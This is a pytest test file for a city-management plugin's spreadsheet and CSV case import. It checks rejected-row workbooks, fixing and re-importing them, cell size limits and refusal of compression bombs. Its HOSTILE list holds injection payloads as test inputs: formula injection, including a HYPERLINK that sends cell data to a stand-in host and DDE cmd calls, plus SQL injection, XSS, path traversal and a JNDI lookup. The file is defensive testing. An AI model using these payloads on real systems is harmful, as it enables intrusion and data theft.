# SPDX-License-Identifier: GPL-2.0-or-later
"""Rows that are not taken: a workbook with reasons, mended there, fed back; and text from outside that stays text."""

from __future__ import annotations

import csv
import gzip
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from digital_citymgmt_plugin.bridge.messages import SENTENCES
from digital_citymgmt_plugin.core.errors import InputRefused
from digital_citymgmt_plugin.core.requests import ImportCases, Layer
from digital_citymgmt_plugin.core.requests_intake import PlaceCases, PreviewCases
from digital_citymgmt_plugin.services.case_placing import place_cases
from digital_citymgmt_plugin.services.case_preview import preview_cases
from digital_citymgmt_plugin.services.cases import import_cases
from tests.services.cities import CRS, X0, Y0, City
from tests.support import Watcher, make_context, new_store

HEAD = ["案件编号", "小类编码", "上报时间", "X坐标", "Y坐标", "地址", "描述", "是否紧急"]
HOSTILE = (
    "=1+1", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
    "\t=1+1", "\r=1", "'; DROP TABLE case_record;--", "1); DELETE FROM case_event; --", "\" OR \"\"=\"",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe", "/dev/null", "file:///etc/passwd", "\x07bell\x1b[31m", "a\x00b",
    "\ufeff\u202eevil",
    "%s%n%x", "{0.__class__}", "${jndi:ldap://x}", "DDE(\"cmd\";\"/C calc\";\"x\")", "_xlfn.WEBSERVICE(\"http://x\")",
)  # fmt: skip


@pytest.fixture
def city(tmp_path):
    store = new_store(tmp_path / "城.gpkg", crs=CRS)
    made = City(store, tmp_path, Watcher())
    made.communities()
    yield made
    store.close()


def book(city, name, rows, head=HEAD):
    made = Workbook()
    sheet = made.active
    sheet.append(["案件明细表"])
    sheet.merge_cells("A1:H1")
    sheet.append(head)
    for row in rows:
        sheet.append(row)
    path = city.folder / name
    made.save(path)
    return str(path)


def bring(city, path, rejects=None, report=None):
    context = make_context(city.store, sentences=dict(SENTENCES))
    return import_cases(context, ImportCases(Layer(path, crs=CRS), None, rejects, report=report))


def numbers(city):
    return {row["case_no"] for row in city.rows("case_record", "case_no")}


def test_rejects_are_mended_in_their_workbook_and_exactly_those_rows_come_in(city):
    good = datetime(2024, 3, 5, 15, 20)
    rows = [
        ["A1", "0405", good, X0 + 10, Y0 + 10, "和平街", "好", "否"],
        ["A2", "0405", "上周", X0 + 20, Y0 + 20, "和平街", "时间错", "否"],
        ["A3", "0405", good, X0 + 900_000, Y0, "和平街", "位置错", "否"],
        ["A4", "0405", good, X0 + 30, Y0 + 30, "和平街", "急不急", "大概"],
        ["", "0405", good, X0 + 40, Y0 + 40, "和平街", "无编号", "否"],
        ["A1", "0405", good, X0 + 50, Y0 + 50, "和平街", "重号", "否"],
        ["A6", "0405", "=NOW()", X0 + 60, Y0 + 60, "和平街", "公式", "否"],
    ]
    rejects = city.folder / "退回.xlsx"
    counts = bring(city, book(city, "案件.xlsx", rows), str(rejects))["counts"]
    assert (counts["read"], counts["accepted"], counts["rejected"]) == (7, 1, 6)
    made = load_workbook(rejects)
    sheet = made.worksheets[0]
    head = [cell.value for cell in sheet[1]]
    at = {name: head.index(name) + 1 for name in HEAD}
    reasons = [sheet.cell(row, 2).value for row in range(2, sheet.max_row + 1)]
    assert reasons == [
        "reject.time", "reject.far_away", "reject.value_unknown", "reject.missing", "reject.formula",
        "reject.duplicate_case_no",
    ]  # fmt: skip
    assert all(sheet.cell(row, 3).value for row in range(2, sheet.max_row + 1))  # each says why in words
    sheet.cell(2, at["上报时间"]).value = "2024年3月6日 上午9时"
    sheet.cell(3, at["X坐标"]).value = X0 + 100
    sheet.cell(5, at["案件编号"]).value = "A5"
    made.save(rejects)
    again = city.folder / "再退.xlsx"
    counts = bring(city, str(rejects), str(again))["counts"]
    assert (counts["read"], counts["inserted"], counts["rejected"]) == (6, 3, 2)
    assert numbers(city) == {"A1", "A2", "A3", "A5"}
    assert counts["updated"] + counts["unchanged"] == 1  # A1 of the list is the second row of that number
    found = city.rows("case_record", "case_no", "reported_at", order=("case_no",))
    assert found[1]["reported_at"] == "2024-03-06T01:00:00.000Z"
    assert found[2]["reported_at"] == "2024-03-05T07:20:00.000Z"  # a date cell stays a date in the list
    left = load_workbook(again).worksheets[0]
    assert [left.cell(row, 2).value for row in range(2, left.max_row + 1)] == ["reject.value_unknown", "reject.time"]


def no_formula(path):
    for sheet in load_workbook(path).worksheets:
        for line in sheet.rows:
            assert not any(cell.data_type == "f" for cell in line), [cell.value for cell in line]


def test_text_from_outside_is_text_in_the_store_the_lists_and_the_report(city):
    before = {path.name for path in city.folder.parent.iterdir()}
    rows = [
        {"案件编号": f"H{n}", "小类名称": text, "地址": text, "描述": text, "处置部门": text, "来源类型": text,
         "所在社区": text, "上报时间": "2024-03-05"}
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    rows += [{**rows[0], "案件编号": text, "上报时间": text} for text in HOSTILE if text.strip("\x00")]
    path = city.table("敌.csv", rows)
    result = bring(city, path, str(city.folder / "拒.xlsx"), str(city.folder / "变.xlsx"))
    counts = result["counts"]
    assert counts["accepted"] == len(HOSTILE) and counts["accepted"] + counts["rejected"] == counts["read"]
    no_formula(city.folder / "拒.xlsx")
    held = city.rows("case_record", "case_no", "description", "class_name")
    for row in held:
        given = HOSTILE[int(row["case_no"][1:])]
        wanted = given.replace("\x00", "").strip()
        assert row["description"] == wanted and row["class_name"] == wanted
    preview_cases(city.context, PreviewCases(Layer(path)))
    place_cases(city.context, PlaceCases())
    changed = [{**row, "描述": f"{row['描述']}!"} for row in rows[: len(HOSTILE)]]
    bring(city, city.table("敌.csv", changed), None, str(city.folder / "变.xlsx"))
    no_formula(city.folder / "变.xlsx")
    listed = city.folder / "拒.csv"
    bring(city, city.table("敌二.csv", [{**row, "上报时间": "昨天"} for row in rows[:9]]), str(listed))
    with listed.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert city.store.count("case_record") == len(HOSTILE) and city.store.count("case_event") > 0
    assert {path.name for path in city.folder.parent.iterdir()} == before  # no text became a path


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_a_cell_of_ten_megabytes_is_rejected_and_one_of_sixty_refuses_the_file(city, encoding):
    path = city.table(
        "十兆.csv", [{"案件编号": "L0", "描述": "占道" * 2_500_000}, {"案件编号": "K0"}], encoding=encoding
    )
    told = bring(city, path, str(city.folder / "十兆拒.xlsx"))
    assert told["reasons"] == {"reject.cell_long": 1} and told["counts"]["accepted"] == 1
    path = city.table("更大.csv", [{"案件编号": "L0", "描述": "占道" * 10_000_000}], encoding=encoding)
    with pytest.raises(InputRefused, match=r"input\.broken_row"):
        bring(city, path)


def test_a_long_cell_is_held_and_listed_short(city):
    long = "占道" * 50_000
    rows = [
        {"案件编号": "L1", "地址": long, "描述": long, "上报时间": "2024-03-05"},
        {"案件编号": "L2", "地址": long, "描述": "x", "上报时间": "昨天"},
    ]
    path = city.table("长.csv", rows)
    counts = bring(city, path, str(city.folder / "长拒.xlsx"))["counts"]
    assert (counts["accepted"], counts["rejected"]) == (1, 1)
    assert city.rows("case_record", "description")[0]["description"] == long
    place_cases(city.context, PlaceCases())
    seen = preview_cases(city.context, PreviewCases(Layer(path)))
    assert max(len(cell) for row in seen["rows"] for cell in row) <= 300
    assert Path(city.folder / "长拒.xlsx").stat().st_size < 1_000_000


def test_bombs_are_refused_before_they_unfold(city):
    packed = city.folder / "弹.csv.gz"
    with gzip.open(packed, "wb", compresslevel=9) as file:
        file.write("案件编号,描述\n".encode())
        for _ in range(160):
            file.write(b"A," + b"0" * 1_000_000 + b"\n")
    unfolded = city.folder / "弹.xlsx"
    path = book(city, "小.xlsx", [["A1", "0405", "", "", "", "", "", ""]])
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(unfolded, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            target.writestr(part, source.read(part))
        target.writestr("xl/media/bomb.xml", b"<a/>" + b" " * (200 << 20))
    for bomb in (packed, unfolded):
        for use, request in ((import_cases, ImportCases), (preview_cases, PreviewCases)):
            with pytest.raises(InputRefused, match=r"input\.bomb"):
                use(city.context, request(Layer(str(bomb))))
    assert city.store.count("case_record") == 0
